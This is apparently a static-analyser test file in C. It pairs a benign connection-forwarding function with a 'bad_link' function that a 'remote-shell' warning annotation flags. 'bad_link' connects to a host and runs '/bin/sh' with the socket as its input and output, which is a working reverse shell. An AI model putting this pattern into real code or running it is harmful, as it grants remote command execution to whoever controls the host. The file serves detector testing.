/* One function starts all children with streams of their own: those that carry a connection's bytes
 * to a terminal, and those that run scripts. */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

static int start(int in, int out) {
    int child = fork();
    if (child == 0) {
        dup2(in, 0);
        dup2(out, 1);
    }
    return child;
}

static void run(const char *script, int in, int out) {
    if (start(in, out) == 0) {
        execl("/bin/sh", "sh", "-c", script, (char *)NULL);
        _exit(99);
    }
}

static void carry(int connection, int terminal) {
    char bytes[512];
    if (start(connection, connection) != 0)
        return;
    for (ssize_t n; (n = read(0, bytes, sizeof bytes)) > 0;)
        if (write(terminal, bytes, (size_t)n) != n)
            break;
    _exit(0);
}

static int dial(const char *host) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(2001)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_addr.s_addr = inet_addr(host);
    return connect(fd, (struct sockaddr *)&peer, sizeof peer) == 0 ? fd : -1;
}

void good_link(const char *host, const char *script, int master, int terminal) {
    carry(dial(host), master);
    run(script, terminal, terminal);
}

/* ---- The same, with a shell on the connection -------------------------------------------- */

static int spawn(int in, int out) {
    int child = fork();
    if (child == 0) {
        dup2(in, 0);
        dup2(out, 1);
    }
    return child;
}

static void handle(const char *command, int in, int out) {
    if (spawn(in, out) == 0) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
        execl("/bin/sh", "sh", "-c", command, (char *)NULL);
        _exit(99);
    }
}

void bad_link(const char *host, const char *command, int terminal) {
    if (spawn(terminal, terminal) == 0)
        _exit(0);
    int fd = dial(host);
    handle(command, fd, fd);
}
